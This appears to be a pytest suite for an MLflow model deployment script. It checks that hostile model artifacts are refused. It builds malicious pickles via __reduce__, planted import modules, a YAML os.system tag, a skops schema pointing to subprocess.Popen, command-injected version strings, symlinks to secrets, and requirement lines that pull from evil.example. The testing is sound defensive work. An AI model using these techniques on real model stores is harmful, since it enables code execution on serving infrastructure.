"""Hostile models: whatever one is made of, none of its code runs, and it is not registered.

Most are copies of a model of the script's own with one thing changed, in the files of the store.
The copy with nothing changed is deployed, so it is the change that is refused.
"""

import json
import pickle
import shutil
import subprocess
import sys
from functools import partial
from pathlib import Path
from zipfile import ZipFile

import mlflow
import numpy as np
import pandas as pd
import pytest
import yaml
from conftest import assert_one_line, assert_success, parents, run, store, user_env
from sklearn.dummy import DummyClassifier
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer
from sklearn.tree import DecisionTreeClassifier
from test_deployment import deploy

import production_deployment as script

SCRIPT = "production_deployment.py"
NAME = "breast-cancer-classifier"


class Trap:
    """Loads as a pickle that leaves a file."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return (open, (str(self.mark), "w"))


class Shop:
    """A store with a model that is fine, and where hostile copies of it are made."""

    def __init__(self, folder):
        self.folder = folder
        store(folder)
        self.train, self.test = script.load_data()
        self.experiment_id = script.open_store(script.EXPERIMENT)
        with mlflow.start_run() as trained:
            script.log_rows(training=self.train, testing=self.test)
            self.fine = script.train_model(self.train, script.TRUSTED)
        self.run_id = trained.info.run_id
        self.files = Path(mlflow.artifacts.download_artifacts(f"models:/{self.fine}"))

    def copy(self, change=None, run_id=None):
        """Put a changed copy of the model into the store; return its ID."""
        client = mlflow.MlflowClient()
        run_id = run_id or self.run_id
        made = client.create_logged_model(self.experiment_id, name="model", source_run_id=run_id)
        path = Path(made.artifact_location)
        shutil.copytree(self.files, path)
        spec = yaml.safe_load((path / "MLmodel").read_text())
        spec["model_id"] = spec["model_uuid"] = made.model_id
        (path / "MLmodel").unlink()
        if change is not None:
            change(path, spec, self.mark(made.model_id))
        if not (path / "MLmodel").exists():
            (path / "MLmodel").write_text(yaml.safe_dump(spec))
        client.finalize_logged_model(made.model_id, "READY")
        return made.model_id

    def mark(self, model_id):
        """Return the file that the model leaves if code of its runs."""
        return self.folder / f"ran-{model_id}"


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    folder = tmp_path_factory.mktemp("shop")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)  # the store remembers where it was made
        yield Shop(folder)


# Each of these makes a copy hostile: it gets the folder, what MLmodel says, and the file to leave.

RUN_CODE = {}  # those that run code when MLflow alone loads them or predicts with them
OTHERS = {}
SKLEARN, PYFUNC = "sklearn", "python_function"


def runs_code(change):
    RUN_CODE[change.__name__] = change
    return change


def other(change):
    OTHERS[change.__name__] = change
    return change


def pickled(path, spec, mark, file_name, serialization_format, dumps=pickle.dumps):
    (path / "model.skops").unlink()
    (path / file_name).write_bytes(dumps(Trap(mark)))
    spec["flavors"][SKLEARN] |= {
        "pickled_model": file_name,
        "serialization_format": serialization_format,
    }
    spec["flavors"][PYFUNC]["model_path"] = file_name


@runs_code
def pickle_as_of_old(path, spec, mark):
    pickled(path, spec, mark, "model.pkl", "pickle")


@runs_code
def cloudpickle(path, spec, mark):
    import cloudpickle

    pickled(path, spec, mark, "model.pkl", "cloudpickle", cloudpickle.dumps)


@runs_code
def pickle_named_as_skops(path, spec, mark):
    pickled(path, spec, mark, "model.skops", "pickle")


@runs_code
def no_format_is_a_pickle(path, spec, mark):
    pickled(path, spec, mark, "model.skops", "pickle")
    del spec["flavors"][SKLEARN]["serialization_format"]


def with_code(path, spec, mark, flavor, module):
    """Add code that is found before the module of the same name that is installed."""
    spec["flavors"][flavor]["code"] = "code"
    (path / "code" / module).mkdir(parents=True)
    (path / "code" / module / "__init__.py").write_text(f"open({str(mark)!r}, 'w')\n")


@runs_code
def code_in_the_sklearn_flavor(path, spec, mark):
    with_code(path, spec, mark, SKLEARN, "skops")


@runs_code
def code_in_the_python_function_flavor(path, spec, mark):
    with_code(path, spec, mark, PYFUNC, "skops")


@runs_code
def a_loader_of_its_own(path, spec, mark):
    with_code(path, spec, mark, PYFUNC, "own_loader")
    spec["flavors"][PYFUNC]["loader_module"] = "own_loader"


@runs_code
def another_loader_of_mlflow(path, spec, mark):
    """The loader of Python models, which are always pickled."""
    (path / "model.skops").write_bytes(pickle.dumps(Trap(mark)))
    spec["flavors"][PYFUNC] |= {
        "loader_module": "mlflow.pyfunc.model",
        "python_model": "model.skops",
        "cloudpickle_version": "3.1.1",
    }


@runs_code
def data_elsewhere(path, spec, mark):
    """The folder `sub` is what is loaded: a whole model again, and a pickle."""
    shutil.copytree(path, path / "sub")
    inner = json.loads(json.dumps(spec))
    pickled(path / "sub", inner, mark, "model.pkl", "pickle")
    (path / "sub" / "MLmodel").write_text(yaml.safe_dump(inner))
    spec["flavors"][PYFUNC]["data"] = "sub"


@runs_code
def model_path_elsewhere(path, spec, mark):
    """The file that is checked is not the one that is loaded, which lies outside the model."""
    elsewhere = mark.with_suffix(".pkl")
    elsewhere.write_bytes(pickle.dumps(Trap(mark)))
    spec["flavors"][SKLEARN]["serialization_format"] = "pickle"
    spec["flavors"][PYFUNC]["model_path"] = str(elsewhere)


@runs_code
def other_types_trusted(path, spec, mark):
    """Skops alone refuses the type, but MLflow trusts what the model itself names."""
    import skops.io

    model = make_pipeline(FunctionTransformer(partial(np.savetxt, str(mark))), DummyClassifier())
    model.steps[-1][1].fit([[0]], ["benign"])
    skops.io.dump(model, path / "model.skops")
    types = skops.io.get_untrusted_types(file=path / "model.skops")
    spec["flavors"][SKLEARN]["skops_trusted_types"] += types


@other
def types_not_trusted(path, spec, mark):
    other_types_trusted(path, spec, mark)
    spec["flavors"][SKLEARN]["skops_trusted_types"] = list(script.TRUSTED)


@other
def every_type_trusted(path, spec, mark):
    spec["flavors"][SKLEARN]["skops_trusted_types"] = True


@other
def an_extra_flavor(path, spec, mark):
    spec["flavors"]["pytorch"] = {"model_data": "data", "code": "code"}


@other
def one_flavor_less(path, spec, mark):
    del spec["flavors"][SKLEARN]


@other
def another_environment(path, spec, mark):
    spec["flavors"][PYFUNC]["env"]["conda"] = "/tmp/conda.yaml"


@other
def a_python_version_that_is_a_command(path, spec, mark):
    spec["flavors"][PYFUNC]["python_version"] = f"3.11; touch {mark}"


@other
def model_config(path, spec, mark):
    spec["flavors"][PYFUNC]["config"] = {"a": "b"}


@other
def flavors_without_settings(path, spec, mark):
    spec["flavors"] = {SKLEARN: None, PYFUNC: None}


@other
def no_flavors(path, spec, mark):
    del spec["flavors"]


@other
def no_signature(path, spec, mark):
    del spec["signature"]


@other
def a_signature_that_cannot_be_read(path, spec, mark):
    spec["signature"] = {"inputs": "none", "outputs": "none"}


@other
def a_column_less(path, spec, mark):
    spec["signature"]["inputs"] = json.dumps(json.loads(spec["signature"]["inputs"])[1:])


@other
def another_column(path, spec, mark):
    columns = json.loads(spec["signature"]["inputs"])
    columns[0]["name"] = "diagnosis"
    spec["signature"]["inputs"] = json.dumps(columns)


@other
def columns_in_another_order(path, spec, mark):
    columns = json.loads(spec["signature"]["inputs"])
    spec["signature"]["inputs"] = json.dumps(columns[::-1])


@other
def predict_proba(path, spec, mark):
    spec["flavors"][PYFUNC]["predict_fn"] = "predict_proba"


@other
def a_symlink_among_the_files(path, spec, mark):
    elsewhere = mark.with_suffix(".skops")
    (path / "model.skops").rename(elsewhere)
    (path / "model.skops").symlink_to(elsewhere)


@other
def a_symlink_to_a_secret(path, spec, mark):
    """It would be copied into the image that serves the model."""
    mark.with_suffix(".secret").write_text("{}")
    (path / "input_example.json").unlink()
    (path / "input_example.json").symlink_to(mark.with_suffix(".secret"))


@other
def an_extra_file(path, spec, mark):
    (path / "sitecustomize.py").write_text(f"open({str(mark)!r}, 'w')\n")


@other
def an_extra_folder(path, spec, mark):
    (path / "code").mkdir()
    (path / "code" / "requirements.txt").touch()


@other
def a_yaml_tag(path, spec, mark):
    text = yaml.safe_dump(spec)
    text += f"metadata: !!python/object/apply:os.system ['touch {mark}']\n"
    (path / "MLmodel").write_text(text)


@other
def yaml_that_cannot_be_read(path, spec, mark):
    (path / "MLmodel").write_text("flavors: [}\n")


@other
def an_empty_mlmodel(path, spec, mark):
    (path / "MLmodel").write_text("\n")


@other
def no_mlmodel(path, spec, mark):
    (path / "MLmodel").mkdir()


@other
def no_skops_file(path, spec, mark):
    (path / "model.skops").unlink()


@other
def a_skops_file_cut_short(path, spec, mark):
    content = (path / "model.skops").read_bytes()
    (path / "model.skops").write_bytes(content[: len(content) // 2])


def change_schema(path, change):
    """Change what a skops file says that it consists of."""
    with ZipFile(path / "model.skops") as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(files["schema.json"])
    change(schema)
    files["schema.json"] = json.dumps(schema).encode()
    with ZipFile(path / "model.skops", "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)


@other
def an_unknown_node(path, spec, mark):
    change_schema(path, lambda schema: schema.update(__loader__="OwnNode"))


@other
def a_node_of_another_class(path, spec, mark):
    """What is built is said to be a pipeline, and is a process."""
    other_class = {"__module__": "subprocess", "__class__": "Popen"}
    change_schema(path, lambda schema: schema.update(other_class))


@other
def a_node_without_content(path, spec, mark):
    change_schema(path, lambda schema: schema.pop("content"))


@other
def a_skops_file_of_something_else(path, spec, mark):
    """It is no model at all, but a list."""
    import skops.io

    skops.io.dump(["benign"], path / "model.skops")


def save_other_model(path, model):
    import skops.io

    (path / "model.skops").unlink()
    skops.io.dump(model, path / "model.skops")


@other
def a_model_that_is_not_fitted(path, spec, mark):
    save_other_model(path, LogisticRegression())


@other
def a_model_of_numbers(path, spec, mark):
    """It has the right columns, and answers numbers instead of classes."""
    columns = script.load_data()[0].X.columns
    rows = pd.DataFrame([[0.0] * len(columns), [1.0] * len(columns)], columns=columns)
    save_other_model(path, LinearRegression().fit(rows, [0, 1]))


@other
def a_model_of_other_classes(path, spec, mark):
    columns = script.load_data()[0].X.columns
    rows = pd.DataFrame([[0.0] * len(columns), [1.0] * len(columns)], columns=columns)
    save_other_model(path, LogisticRegression().fit(rows, [0, 1]))


@other
def no_requirements(path, spec, mark):
    (path / "requirements.txt").unlink()


# A line of these is enough to have code installed, or run, where the model is served.
LINES = {
    "requirements.txt": [
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links .",
        "https://evil.example/evil-1.0-py3-none-any.whl",
        "evil @ https://evil.example/evil-1.0.tar.gz",
        "git+https://evil.example/evil.git",
        "-e .",
        "-r more.txt",
        "--requirement=more.txt",
        "-c more.txt",
        "./evil",
        "evil",
        "evil==1.0",
        "numpy>=1.0",
        "numpy==1.0 --config-settings=a=b",
        "numpy==1.0 \\",
        "numpy==$(touch ran)",
    ],
    "conda.yaml": [
        "- https://evil.example/channel",
        "- evil-channel",
        "- evil-channel::evil=1.0",
        "  - --index-url https://evil.example/simple",
        "  - evil @ https://evil.example/evil-1.0.tar.gz",
        "  - -e .",
        "  - evil",
        "prefix: /tmp",
        "- !!python/object/apply:os.system ['touch ran']",
    ],
    "python_env.yaml": [
        "- https://evil.example/evil.whl",
        "- evil @ https://evil.example/evil-1.0.tar.gz",
        "- --index-url https://evil.example/simple",
        "- -r more.txt",
        "- -e .",
        "- evil",
        "python: 3.11.7; touch ran",
        "python: ../../python",
        "python: .",
        "python: '3.11.7 --evil'",
    ],
}
for file_name, lines in LINES.items():
    for added in lines:

        def add_line(path, spec, mark, file_name=file_name, line=added):
            with open(path / file_name, "a") as file:
                file.write(f"\n{line}\n")

        OTHERS[f"{file_name}: {added}"] = add_line


def test_a_copy_with_nothing_changed_is_deployed(shop):
    process = deploy("--model-uri", f"models:/{shop.copy()}")
    assert not nothing_is_registered()
    assert_success(process)


def nothing_is_registered():
    """Return True if so; if not, tidy up, so that one failure does not lead to others."""
    client = mlflow.MlflowClient()
    registered = client.search_registered_models()
    for model in registered:
        client.delete_registered_model(model.name)
        for run_ in parents(script.EXPERIMENT):
            if run_.data.tags.get("registered_model") == model.name:
                client.delete_run(run_.info.run_id)
    return registered == []


def assert_refused(process, shop, model_id, *words, code=2):
    nothing_registered = nothing_is_registered()
    assert_one_line(process, *words, code=code)
    assert nothing_registered and not shop.mark(model_id).exists()


@pytest.mark.parametrize("make", RUN_CODE)
def test_a_model_that_runs_code_is_refused(make, shop):
    model_id = shop.copy(RUN_CODE[make])
    process = deploy("--model-uri", f"models:/{model_id}")
    assert_refused(process, shop, model_id, model_id, "could run code")


@pytest.mark.parametrize("make", OTHERS)
def test_a_model_with_anything_else_wrong_is_refused(make, shop):
    model_id = shop.copy(OTHERS[make])
    process = deploy("--model-uri", f"models:/{model_id}")
    assert_refused(process, shop, model_id, model_id)


@pytest.mark.parametrize("make", ["code_in_the_sklearn_flavor", "a_yaml_tag"])
def test_a_process_of_its_own_refuses_it_too(make, shop):
    """Code that takes the place of skops would run only where skops is not yet imported."""
    model_id = shop.copy((RUN_CODE | OTHERS)[make])
    process = run(SCRIPT, "--model-uri", f"models:/{model_id}", cwd=shop.folder)
    assert_refused(process, shop, model_id, model_id)


LOAD = """
import os, sys
import mlflow.pyfunc.model, mlflow.sklearn, pandas
from sklearn.utils import all_estimators
all_estimators()  # imports what skops will need, once for all the processes below
assert "skops" not in sys.modules
for path, mark in zip(sys.argv[1::2], sys.argv[2::2]):
    for load in (mlflow.pyfunc.load_model, mlflow.sklearn.load_model):
        if not os.path.exists(mark) and os.fork() == 0:
            try:
                load(path).predict(pandas.DataFrame({"mean radius": [1.0, 2.0]}))
            finally:
                os._exit(0)
        elif os.path.exists(mark):
            break
        os.wait()
"""


def test_mlflow_alone_would_run_their_code(shop):
    """So that the tests above can fail."""
    marks, words = {}, []
    for make, change in RUN_CODE.items():
        model_id = shop.copy(change)
        marks[make] = shop.mark(model_id)
        words += [mlflow.get_logged_model(model_id).artifact_location, str(marks[make])]
    subprocess.run(
        [sys.executable, "-c", LOAD, *words],
        env=user_env(),
        cwd=shop.folder,
        capture_output=True,
        timeout=120,
        check=True,
    )
    assert [make for make, mark in marks.items() if not mark.exists()] == []


def test_a_model_whose_file_names_another_is_refused(shop):
    """Neither is deployed: the one was not checked, and the other was not asked for."""

    def name_the_fine_one(path, spec, mark):
        save_other_model(path, DummyClassifier().fit(shop.train.X, shop.train.y))
        spec["model_id"] = spec["model_uuid"] = shop.fine

    with mlflow.start_run() as elsewhere:
        pass
    model_id = shop.copy(name_the_fine_one, elsewhere.info.run_id)
    for uri in (f"models:/{model_id}", f"runs:/{elsewhere.info.run_id}/model"):
        assert_refused(deploy("--model-uri", uri), shop, model_id, uri)


def test_a_symlink_is_found_even_if_mlflow_copies_it(shop, tmp_path):
    """This MLflow refuses those that lead out of the model. An older one copies them."""
    for number, name in enumerate(("model.skops", "input_example.json")):
        copy = shutil.copytree(shop.files, tmp_path / str(number))
        assert script.why_unsafe(copy, script.TRUSTED) is None
        (copy / name).rename(tmp_path / name)
        (copy / name).symlink_to(tmp_path / name)
        assert name in script.why_unsafe(copy, script.TRUSTED)


def test_what_is_checked_is_what_is_loaded(shop, monkeypatch):
    """Someone who may write to the store changes a model as soon as it has been checked."""
    model_id, check = shop.copy(), script.why_unsafe
    path = Path(mlflow.get_logged_model(model_id).artifact_location)

    def check_and_change(*args):
        reason = check(*args)
        spec = yaml.safe_load((path / "MLmodel").read_text())
        if (path / "model.skops").exists():
            pickle_as_of_old(path, spec, shop.mark(model_id))
            (path / "MLmodel").write_text(yaml.safe_dump(spec))
        return reason

    monkeypatch.setattr(script, "why_unsafe", check_and_change)
    process = deploy("--model-uri", f"models:/{model_id}")
    aliases = mlflow.MlflowClient().get_registered_model(NAME).aliases
    nothing_is_registered()
    # The first copy was fine, so it was registered. What would be served is fetched anew.
    assert_one_line(process, "could run code", f"{NAME}/1")
    assert "production" not in aliases and not shop.mark(model_id).exists()


def test_a_model_that_is_in_no_store_is_not_deployed(shop):
    """It has no ID; nothing else may be deployed in its place."""
    saved = shop.folder / "saved"
    shutil.copytree(shop.files, saved)
    spec = yaml.safe_load((saved / "MLmodel").read_text())
    for model_id in (None, "m-0"):
        (saved / "MLmodel").write_text(yaml.safe_dump(spec | {"model_id": model_id}))
        assert_refused(deploy("--model-uri", str(saved)), shop, "")


@pytest.mark.parametrize("uri", ["models:/m-0", "runs:/0/model", "models:/nothing@here", ""])
def test_an_unknown_model_ends_in_one_line(uri, shop):
    runs_before = len(parents(script.EXPERIMENT))
    assert_refused(deploy("--model-uri", uri), shop, "")
    assert len(parents(script.EXPERIMENT)) == runs_before


# Models that know too much.


def log_tree(shop, dataset=None, context="training"):
    """Log a tree that has learned all rows by heart; return its ID."""
    X = pd.concat([shop.train.X, shop.test.X])
    y = pd.concat([shop.train.y, shop.test.y])
    tree = DecisionTreeClassifier(random_state=0).fit(X, y)
    with mlflow.start_run():
        if dataset is not None:
            mlflow.log_input(dataset, context=context)
        return script.log_model(tree, X, script.TRUSTED)


@pytest.mark.parametrize("context", ["training", "train"])  # as here, and as autolog says it
def test_a_model_that_has_seen_the_hold_out_is_refused(context, shop):
    table = pd.concat([shop.train.X, shop.test.X]).assign(diagnosis="?")
    model_id = log_tree(shop, mlflow.data.from_pandas(table), context)
    process = deploy("--model-uri", f"models:/{model_id}")
    assert_refused(process, shop, model_id, model_id, "trained on other rows", code=1)


def test_a_model_trained_on_these_and_other_rows_is_refused(shop):
    with mlflow.start_run():
        script.log_rows(training=shop.train)
        mlflow.log_input(shop.test.dataset, context="training")
        model_id = script.train_model(shop.train, script.TRUSTED)
    process = deploy("--model-uri", f"models:/{model_id}")
    assert_refused(process, shop, model_id, model_id, "trained on other rows", code=1)


@pytest.mark.parametrize("in_a_run", [True, False])
def test_unknown_training_rows_are_pointed_out(in_a_run, shop):
    """This tree passes with 1.0: whoever reads the verdict has to know."""
    if in_a_run:
        model_id = log_tree(shop)
    else:
        model = DecisionTreeClassifier().fit(shop.train.X, shop.train.y)
        model_id = script.log_model(model, shop.train.X, script.TRUSTED)
        assert mlflow.active_run() is None
    process = deploy("--min-score", "0.8", "--model-uri", f"models:/{model_id}")
    tags = mlflow.MlflowClient().get_model_version(NAME, "1").tags if process.stdout else {}
    nothing_is_registered()
    assert_success(process)
    assert "training rows are unknown" in process.stdout
    assert any("unknown" in value for value in tags.values()), tags


# Hostile models that are in production already, as with a team that comes from MLflow 2.


@pytest.fixture
def put_into_production(shop):
    """Return a function that registers a model and moves the alias, as someone does by hand."""
    client = mlflow.MlflowClient()
    client.create_registered_model(NAME)

    def put(source):
        number = str(client.create_model_version(NAME, str(source)).version)
        client.set_registered_model_alias(NAME, "production", number)
        return number

    yield put
    nothing_is_registered()


def aliases():
    found = mlflow.MlflowClient().get_registered_model(NAME).aliases
    return {alias: str(number) for alias, number in found.items()}


def test_a_pickle_in_production_is_replaced_without_a_comparison(shop, put_into_production):
    model_id = shop.copy(pickle_as_of_old)
    put_into_production(f"models:/{model_id}")
    process = deploy("--model-uri", f"models:/{shop.fine}")
    assert_success(process)
    assert "not compared with version 1 in production" in process.stdout
    assert "could run code" in process.stdout
    assert not shop.mark(model_id).exists()
    assert aliases() == {"production": "2", "previous": "1", "staging": "2"}
    client = mlflow.MlflowClient()
    version = client.get_model_version(NAME, "2")
    assert version.tags["compared_with"] == "none" and "compared with: none" in version.description
    run_ = parents(script.EXPERIMENT)[-1]
    assert run_.data.tags["champion"] == "1"
    assert "below_production" not in run_.data.metrics
    # The printed way back leads there, and so does its number: it was in production.
    assert "Undo:" in process.stdout
    assert_success(deploy("--rollback", "1"))
    assert aliases() == {"production": "1", "previous": "2", "staging": "2"}
    assert not shop.mark(model_id).exists()


def test_no_broken_model_in_production_stands_in_the_way(shop, put_into_production, capsys):
    broken = ["a_yaml_tag", "yaml_that_cannot_be_read", "an_unknown_node", "types_not_trusted"]
    broken += ["a_skops_file_cut_short", "a_skops_file_of_something_else", "no_requirements"]
    broken += ["a_model_that_is_not_fitted", "a_model_of_other_classes"]
    makes = RUN_CODE | {make: OTHERS[make] for make in broken}
    stands_in_the_way = {}
    for make, change in makes.items():
        model_id = shop.copy(change)
        number = put_into_production(f"models:/{model_id}")
        try:
            champion = script.load_champion(NAME, shop.train, script.TRUSTED)
            assert champion == (number, None)
            assert "not compared with" in capsys.readouterr().out
        except Exception as error:
            stands_in_the_way[make] = repr(error)
        assert not shop.mark(model_id).exists()
    assert stands_in_the_way == {}


def test_a_model_in_production_that_the_store_does_not_know_is_compared(shop, put_into_production):
    """Its files were saved by hand, without an ID: it can be loaded, and that is enough."""
    saved = shop.folder / "by-hand"
    shutil.copytree(shop.files, saved)
    spec = yaml.safe_load((saved / "MLmodel").read_text())
    (saved / "MLmodel").write_text(yaml.safe_dump(spec | {"model_id": None}))
    put_into_production(saved)
    assert_success(deploy("--model-uri", f"models:/{shop.fine}"))
    assert mlflow.MlflowClient().get_model_version(NAME, "2").tags["compared_with"] == "1"
